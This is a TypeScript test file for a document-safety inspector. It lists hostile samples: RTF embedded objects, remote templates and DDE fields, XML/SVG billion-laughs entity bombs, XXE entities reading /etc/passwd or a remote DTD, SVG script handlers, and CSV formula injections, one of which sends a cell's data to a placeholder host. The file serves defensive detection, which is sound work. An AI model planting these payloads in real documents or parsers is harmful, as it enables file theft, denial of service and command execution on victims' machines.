import assert from 'node:assert/strict'
import { globSync, readFileSync } from 'node:fs'
import { describe, test } from 'node:test'
import { type Harmless, type Hostile, inspectorContract, look } from '../test/inspector-contract.ts'
import { inspectDocument } from './documents.ts'

const laughs = Array.from(
  { length: 9 },
  (_, step) => `<!ENTITY l${step + 1} "${`&l${step};`.repeat(10)}">`,
).join('')
const svg = (inside: string, before = '') =>
  `<?xml version="1.0"?>${before}<svg xmlns="http://www.w3.org/2000/svg">${inside}</svg>`
const utf16 = (text: string) => Buffer.from(`\ufeff${text}`, 'utf16le')

// biome-ignore format: one case, one line
const hostile: Hostile[] = [
  ['a.rtf', 'an object', '{\\rtf1{\\object\\objemb{\\*\\objclass Package}{\\*\\objdata 0105}}}', 'rtf-object'],
  ['a.rtf', 'an object behind broken hex digits', "{\\rtf1{\\object{\\*\\objdata 01{\\*\\x}\\'30 5}}}", 'rtf-object'],
  ['a.rtf', 'an object that updates itself', '{\\rtf1{\\object\\objautlink\\objupdate}}', 'rtf-object'],
  ['a.doc', 'an object in RTF named .doc', '{\\rtf1{\\object{\\*\\objdata 01}}}', 'rtf-object'],
  ['a.rtf', 'a template on the web', '{\\rtf1{\\*\\template http://host/a.dotm}}', 'remote-template'],
  ['a.rtf', 'a template whose address is in hex digits', "{\\rtf1{\\*\\template \\'68ttp\\u58?//host/a}}", 'remote-template'],
  ['a.rtf', 'a template on a network share', '{\\rtf1{\\*\\template \\\\\\\\host\\\\a.dotm}}', 'remote-template'],
  ['a.rtf', 'a DDE field', '{\\rtf1{\\field{\\*\\fldinst {DDE}{AUTO cmd}}}}', 'dde'],
  ['a.svg', 'a billion laughs', svg('&l9;', `<!DOCTYPE svg [<!ENTITY l0 "ha">${laughs}]>`), 'entity-bomb'],
  ['a.xml', 'a billion laughs', `<!DOCTYPE x [<!ENTITY l0 "ha">${laughs}]><x>&l9;</x>`, 'entity-bomb'],
  ['a.xml', 'a billion laughs in UTF-16', utf16(`<!DOCTYPE x [<!ENTITY l0 "ha">${laughs}]><x>&l9;</x>`), 'entity-bomb'],
  ['a.svg', 'an entity that contains itself', svg('&a;', '<!DOCTYPE svg [<!ENTITY a "&b;"><!ENTITY b "&a;">]>'), 'entity-bomb'],
  ['a.svg', 'one large entity, used often', svg('&a;'.repeat(2000), `<!DOCTYPE svg [<!ENTITY a "${'x'.repeat(20_000)}">]>`), 'entity-bomb'],
  ['a.svg', 'a billion laughs in parameter entities', svg('', `<!DOCTYPE svg [<!ENTITY % l0 "haha">${laughs.replaceAll('ENTITY ', 'ENTITY % ').replaceAll('&', '%')}]>`), 'entity-bomb'],
  ['a.svg', 'a drawing that reads a file', svg('&a;', '<!DOCTYPE svg [<!ENTITY a SYSTEM "file:///etc/passwd">]>'), 'external-entity'],
  ['a.svg', 'a drawing that reads declarations', svg('', "<!DOCTYPE svg [<!ENTITY % a SYSTEM 'http://host/a.dtd'> %a;]>"), 'external-entity'],
]

// biome-ignore format: one case, one line
const harmless: Harmless[] = [
  ['a.rtf', 'a letter', '{\\rtf1\\ansi{\\fonttbl{\\f0 Arial;}}Dear all,\\par {\\b bold} \\u8364?}'],
  ['a.rtf', 'a template on the local disk', '{\\rtf1{\\*\\template C:\\\\Users\\\\a\\\\Normal.dotm}}'],
  ['a.rtf', 'a link', '{\\rtf1{\\field{\\*\\fldinst HYPERLINK "http://example.com"}{\\fldrslt x}}}'],
  ['a.rtf', 'a picture', `{\\rtf1{\\pict\\pngblip ${'89504e47'.repeat(100)}}}`],
  ['a.rtf', 'a text about objects', '{\\rtf1 the word \\\\objdata and DDEAUTO}'],
  ['a.rtf', 'a truncated letter', '{\\rtf1\\ansi{\\fonttbl{\\f0 Ari'],
  ['a.txt', 'a text about RTF', 'write {\\rtf1{\\objdata 01}}'],
  ['a.svg', 'a drawing', svg('<path d="M0 0h9"/>')],
  ['a.svg', 'a drawing by Illustrator', svg('<g/>', '<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd" [<!ENTITY ns_svg "http://www.w3.org/2000/svg">]>')],
  ['a.svg', 'a drawing with script', svg('<script>alert(1)</script>'), ['active-content']],
  ['a.svg', 'a drawing with a handler', svg('<g onload="alert(1)"/>'), ['active-content']],
  ['a.svg', 'a drawing with a link that is script', svg('<a href="javascript:alert(1)"/>'), ['active-content']],
  ['a.svg', 'a drawing with script in UTF-16', utf16(svg('<script>alert(1)</script>')), ['active-content']],
  ['a.html', 'a web page with script', '<!doctype html><script src="a.js"></script>', ['active-content']],
  ['a.html', 'a web page', '<!doctype html><p>hello</p>'],
  ['x/chapter1.xhtml', 'a chapter with script', '<html xmlns="http://www.w3.org/1999/xhtml"><script/></html>', ['active-content']],
  ['a.xml', 'a book in several files', '<!DOCTYPE book [<!ENTITY one SYSTEM "one.xml">]><book>&one;</book>', ['external-entity']],
  ['a.xml', 'an XML file with small entities', '<!DOCTYPE x [<!ENTITY a "b">]><x>&a;&a;</x>'],
  ['a.csv', 'a table', 'name,value\na,-1\nb,+2\nc,=SUM(A1:A2)\n'],
  ['a.csv', 'a table with a formula that runs something', 'a,b\n"=cmd|\'/c calc\'!A0",1\n', ['formula-injection']],
  ['a.csv', 'a table with a formula that fetches something', 'a;b\n@WEBSERVICE("http://host/?"&A1);1\n', ['formula-injection']],
  ['a.csv', 'a table with words', 'a,b\nuse cmd | more,HYPERLINK(x)\n'],
  ['a.md', 'a text about macros', '# AutoOpen\n\n=cmd|calc `<script>` javascript:\n'],
  ['a.txt', 'an empty text', ''],
]

describe('inspectDocument on text and markup', () => {
  inspectorContract(inspectDocument, hostile, harmless)

  test('accepts the documents on this machine', async () => {
    for (const file of globSync('/usr/share/**/*.{pdf,svg,html,xml,rtf}').slice(0, 300)) {
      const { verdict } = await look(inspectDocument, file.split('/').at(-1) ?? '', readFileSync(file))
      assert.equal(verdict, 'clean', file)
    }
  })
})
